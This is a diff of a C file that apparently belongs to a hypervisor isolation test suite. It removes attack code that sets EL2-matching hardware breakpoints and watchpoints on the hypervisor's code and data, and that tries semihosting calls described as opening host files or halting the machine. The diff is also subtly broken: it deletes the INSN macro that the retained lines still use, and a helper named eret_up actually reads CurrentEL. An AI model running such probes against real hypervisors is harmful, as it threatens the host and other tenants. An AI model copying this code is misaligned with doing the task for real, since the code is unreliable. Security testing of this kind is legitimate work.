@@ -1,5 +1,5 @@
 /* SPDX-License-Identifier: Apache-2.0 */
-/* System registers and instructions, all encodings; what registers hold that is not this guest's; debug. */
+/* System registers and instructions, all encodings; what registers hold that is not this guest's. */
 #include "hostile.h"
 
 #define STUBS  128U /* CRm x op2 */
@@ -282,57 +282,7 @@ void attack_el1_leak(const struct attack *self)
     }
 }
 
-/* ---- Debug ---- */
-
-#define INSN(name, code)                                                                                     \
-    static uint64_t name(uint64_t a)                                                                         \
-    {                                                                                                        \
-        register uint64_t x0 __asm__("x0") = a;                                                              \
-        __asm__ volatile(".inst " #code : "+r"(x0)::"x1", "memory", "cc");                                   \
-        return x0;                                                                                           \
-    }
-
-INSN(brk, 0xd4224680)      /* brk #0x1234 */
-INSN(svc, 0xd4000001)      /* svc #0 */
-INSN(hlt, 0xd45e0000)      /* hlt #0xf000: semihosting */
-INSN(hlt_0, 0xd4400000)    /* hlt #0 */
-INSN(dcps2, 0xd4a00002)    /* to EL2, in debug state alone */
-INSN(eret_up, 0xd5384240)  /* mrs x0, currentel */
-
-/* Breakpoints and watchpoints that match at EL2 alone (HMC = 1, SSC = 3, PMC = 0) on the hypervisor's code and data. */
-void attack_debug(const struct attack *self)
-{
-    fact(self, "brk", 0, try_call(brk, 0));
-    fact(self, "svc", 0, try_call(svc, 0));
-    fact(self, "CurrentEL", 0, try_call(eret_up, 0));
-    fact(self, "dcps2", 0, try_call(dcps2, 0));
-    uint64_t code = 0;
-    WRITE_SYSREG(oslar_el1, 0);
-    for (unsigned n = 0; address("hvva", n, &code); n++) {
-        WRITE_SYSREG(dbgbvr0_el1, code);
-        WRITE_SYSREG(dbgbcr0_el1, 3U << 14 | 1U << 13 | 0xfU << 5 | 1U);
-        WRITE_SYSREG(dbgwvr0_el1, code & ~7ULL);
-        WRITE_SYSREG(dbgwcr0_el1, 3U << 14 | 1U << 13 | 0xffU << 5 | 3U << 3 | 1U);
-        WRITE_SYSREG(mdscr_el1, 1U << 15 | 1U << 13 | 1U);
-        barrier();
-        fact(self, "value", n, (struct outcome){.value = READ_SYSREG(dbgbvr0_el1)});
-        for (unsigned i = 0; i < 100U; i++) {
-            (void)hvc(PSCI_VERSION, 0, 0, 0);
-        }
-    }
-    WRITE_SYSREG(mdscr_el1, 0);
-    WRITE_SYSREG(dbgbcr0_el1, 0);
-    WRITE_SYSREG(dbgwcr0_el1, 0);
-    barrier();
-}
-
-/* Semihosting is a door of emulators and debuggers: 0x18 ends the machine, 0x01 opens the host's files. */
-void attack_hlt(const struct attack *self)
-{
-    fact(self, "hlt", 0, try_call(hlt_0, 0));
-    fact(self, "semihosting", 1, try_call(hlt, 0x01));
-    fact(self, "semihosting", 0x18, try_call(hlt, 0x18));
-}
+/* ---- Vectors and counters ---- */
 
 INSN(sve_cntb, 0x0420e3e0)   /* cntb x0 */
 INSN(sve_rdvl, 0x04bf5020)   /* rdvl x0, #1 */
